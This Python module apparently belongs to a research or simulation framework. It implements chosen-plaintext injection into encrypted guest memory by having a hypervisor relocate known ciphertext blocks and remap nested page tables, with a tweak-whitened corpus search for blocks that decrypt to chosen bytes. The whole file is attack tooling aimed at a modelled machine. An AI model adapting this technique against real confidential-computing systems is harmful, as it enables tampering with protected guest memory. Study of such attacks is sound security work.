"""Chosen-plaintext injection by moving known ciphertext blocks.

A corpus block with known plaintext ``m'`` resident at host address ``q``
reads back as ``m' ^ T(q) ^ T(p)`` once its ciphertext is relocated to
``p`` (XEX needs the copy adjusted by ``T(q) ^ T(p)``; XE gets it for
free from linearity). Finding a block whose relocation puts chosen bytes
at chosen offsets is a lookup on the *whitened* corpus ``m' ^ T(q)``:
the required whitened value at offset ``o`` is ``v ^ T(p)[o]``.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Callable, Iterable, Sequence

import numpy as np

from .machine import Machine, MachineError
from .tweak_cipher import BLOCK, PAGE, CipherMode, TweakTable, to_bytes, to_int

MAX_CONTROLLED = 4


class InjectionError(Exception):
    pass


class OverConstrained(InjectionError):
    pass


class NotFound(InjectionError):
    def __init__(self, msg: str, stats: dict):
        super().__init__(f"{msg} ({stats})")
        self.stats = stats


class StaleSolution(MachineError):
    pass


@dataclass(frozen=True)
class ByteConstraint:
    offset: int
    value: int

    def __post_init__(self):
        if not 0 <= self.offset < BLOCK:
            raise ValueError(f"offset {self.offset} outside a block")
        if not 0 <= self.value < 256:
            raise ValueError(f"value {self.value} is not a byte")


def constraints_at(offset: int, data: bytes) -> list[ByteConstraint]:
    """Constraints placing ``data`` at ``offset`` of a block."""
    return [ByteConstraint(offset + k, b) for k, b in enumerate(data)]


@dataclass(frozen=True)
class MoveSolution:
    q: int  # source host address
    m_src: bytes
    p: int  # destination host address
    dest_gpa: int
    r: bytes  # plaintext the guest will see at dest_gpa

    @property
    def delta(self) -> bytes:
        return bytes(a ^ b for a, b in zip(self.m_src, self.r))

    def to_json(self) -> dict:
        return {"q": self.q, "p": self.p, "delta_hex": self.delta.hex(), "r_hex": self.r.hex()}

    def dumps(self) -> str:
        return json.dumps(self.to_json(), sort_keys=True)


@dataclass
class Corpus:
    """Known-plaintext blocks and where their ciphertext lives.

    ``cipher`` records the ciphertext seen when the corpus was built so a
    later overwrite of a source block is detected before it is used.
    """
    plain: np.ndarray  # (N, 16) uint8
    hpa: np.ndarray  # (N,) int64
    cipher: np.ndarray | None = None
    _whitened: dict = field(default_factory=dict, repr=False)
    _indexes: dict = field(default_factory=dict, repr=False)
    _by_hpa: tuple | None = field(default=None, repr=False)

    def __len__(self) -> int:
        return len(self.hpa)

    def entry(self, k: int) -> tuple[bytes, int]:
        return bytes(self.plain[k]), int(self.hpa[k])

    def lookup(self, hpa: int) -> int | None:
        """Entry index of the block resident at ``hpa``."""
        if self._by_hpa is None:
            order = np.argsort(self.hpa, kind="stable")
            self._by_hpa = (self.hpa[order], order)
        keys, order = self._by_hpa
        i = int(np.searchsorted(keys, hpa))
        if i < len(keys) and keys[i] == hpa:
            return int(order[i])
        return None

    def whitened(self, table: TweakTable) -> np.ndarray:
        key = table.constants
        w = self._whitened.get(key)
        if w is None:
            frames = self.hpa >> 12
            w = self.plain.copy()
            offs = ((self.hpa >> 4) & 0xFF).astype(np.intp)
            off_t = table.offset_tweak_array()
            w ^= off_t[offs]
            uniq, inv = np.unique(frames, return_inverse=True)
            ft = np.frombuffer(b"".join(to_bytes(table.frame_tweak(int(f))) for f in uniq),
                               dtype=np.uint8).reshape(len(uniq), BLOCK)
            w ^= ft[inv]
            self._whitened = {key: w}
            self._indexes = {}
        return w

    def index(self, table: TweakTable, offsets: tuple[int, ...]):
        """Sorted keys over the whitened bytes at ``offsets``, plus the order."""
        ck = (table.constants, offsets)
        idx = self._indexes.get(ck)
        if idx is None:
            w = self.whitened(table)
            keys = np.zeros(len(w), dtype=np.uint32)
            for k, o in enumerate(offsets):
                keys |= w[:, o].astype(np.uint32) << (8 * k)
            order = np.argsort(keys, kind="stable")
            idx = (keys[order], order)
            self._indexes[ck] = idx
        return idx


def build_corpus(image: bytes, load_base: int,
                 translate: Callable[[int], int] | None = None,
                 machine: Machine | None = None) -> Corpus:
    """One entry per 16-byte block of ``image`` loaded at ``load_base``.

    ``translate`` maps the load address to the host address holding the
    ciphertext (identity when omitted). A short final block is zero-padded.
    """
    if load_base % BLOCK:
        raise ValueError("load base must be block-aligned")
    if len(image) % BLOCK:
        image = bytes(image) + bytes(BLOCK - len(image) % BLOCK)
    n = len(image) // BLOCK
    plain = np.frombuffer(bytes(image), dtype=np.uint8).reshape(n, BLOCK).copy()
    addrs = load_base + BLOCK * np.arange(n, dtype=np.int64)
    if translate is not None:
        pages = {}
        hpa = np.empty(n, dtype=np.int64)
        for k in range(0, n, PAGE // BLOCK):
            a = int(addrs[k])
            base = pages.setdefault(a >> 12, translate(a & ~(PAGE - 1)))
            end = min(n, k + PAGE // BLOCK)
            hpa[k:end] = base + (addrs[k:end] & (PAGE - 1))
    else:
        hpa = addrs
    cipher = None
    if machine is not None:
        cipher = np.empty_like(plain)
        for k in range(0, n, PAGE // BLOCK):
            end = min(n, k + PAGE // BLOCK)
            raw = machine.hv_read_phys(int(hpa[k]), (end - k) * BLOCK)
            cipher[k:end] = np.frombuffer(raw, dtype=np.uint8).reshape(end - k, BLOCK)
    return Corpus(plain, hpa, cipher)


def load_corpus_file(path: str, load_base: int, **kw) -> Corpus:
    with open(path, "rb") as fh:
        return build_corpus(fh.read(), load_base, **kw)


def _normalize(constraints: Iterable[ByteConstraint]) -> list[ByteConstraint]:
    cons = sorted(set(constraints), key=lambda c: c.offset)
    if not cons:
        raise InjectionError("no constraints given")
    offsets = [c.offset for c in cons]
    if len(set(offsets)) != len(offsets):
        raise InjectionError(f"conflicting constraints at offsets {offsets}")
    if len(cons) > MAX_CONTROLLED:
        raise OverConstrained(f"{len(cons)} controlled bytes requested; a 4-byte periodic "
                              f"tweak delta controls at most {MAX_CONTROLLED}")
    return cons


def find_injection(corpus: Corpus, constraints: Iterable[ByteConstraint], dest_gpa: int,
                   candidate_frames: Sequence[int], table: TweakTable,
                   skip: Callable[[int], bool] | None = None) -> MoveSolution:
    """First (frame, corpus entry) pair whose relocation meets every constraint.

    Frames are tried in the given order; within a frame, entries in
    ascending index order, so results are deterministic.
    """
    cons = _normalize(constraints)
    offsets = tuple(c.offset for c in cons)
    keys, order = corpus.index(table, offsets)
    w = corpus.whitened(table)
    stats = {"frames": 0, "entries_checked": 0, "corpus": len(corpus)}
    pofs = dest_gpa & (PAGE - 1) & ~(BLOCK - 1)
    for frame in candidate_frames:
        stats["frames"] += 1
        p = (frame << 12) | pofs
        tp = to_bytes(table.tweak(p))
        want = 0
        for k, c in enumerate(cons):
            want |= (c.value ^ tp[c.offset]) << (8 * k)
        # a Python int needle would upcast the whole key array on every call
        needle = np.uint32(want)
        lo = np.searchsorted(keys, needle, "left")
        hi = np.searchsorted(keys, needle, "right")
        for k in sorted(order[lo:hi].tolist()):
            stats["entries_checked"] += 1
            m_src, q = corpus.entry(k)
            if skip is not None and skip(q):
                continue
            r = bytes(np.frombuffer(tp, dtype=np.uint8) ^ w[k])
            if all(r[c.offset] == c.value for c in cons):
                return MoveSolution(q, m_src, p, dest_gpa, r)
    raise NotFound("no corpus block satisfies the constraints", stats)


def relocate_ciphertext(machine: Machine, p_from: int, p_to: int,
                        table: TweakTable | None = None) -> None:
    """Copy a ciphertext block; under XEX fold in ``T(from) ^ T(to)``.

    ``table`` is the attacker's view of the tweak constants (defaults to
    the machine's, i.e. a completed recovery).
    """
    if p_from % BLOCK or p_to % BLOCK:
        raise ValueError("relocation addresses must be block-aligned")
    c = machine.hv_read_phys(p_from, BLOCK)
    if machine.mode is CipherMode.XEX:
        t = table or machine.table
        c = to_bytes(to_int(c) ^ t.tweak(p_from) ^ t.tweak(p_to))
    machine.hv_write_phys(p_to, c)
    machine.metrics.blocks_moved += 1


def moved_ciphertext(machine: Machine, sol: MoveSolution, table: TweakTable | None = None) -> bytes:
    """The bytes ``relocate_ciphertext`` would write for ``sol``, for replaying later."""
    c = machine.hv_read_phys(sol.q, BLOCK)
    if machine.mode is CipherMode.XEX:
        t = table or machine.table
        c = to_bytes(to_int(c) ^ t.tweak(sol.q) ^ t.tweak(sol.p))
    return c


def check_fresh(machine: Machine, sol: MoveSolution, corpus: Corpus) -> None:
    if corpus.cipher is None:
        return
    k = corpus.lookup(sol.q)
    if k is not None and machine.hv_read_phys(sol.q, BLOCK) != bytes(corpus.cipher[k]):
        raise StaleSolution(f"source block at {sol.q:#x} changed since the corpus was built")


def apply_solution(machine: Machine, sol: MoveSolution, corpus: Corpus | None = None,
                   table: TweakTable | None = None) -> None:
    if corpus is not None:
        check_fresh(machine, sol, corpus)
    frame = sol.dest_gpa >> 12
    if machine.npt[frame].hpa_frame != sol.p >> 12:
        machine.remap_gpa(frame, sol.p >> 12)
    relocate_ciphertext(machine, sol.q, sol.p, table)
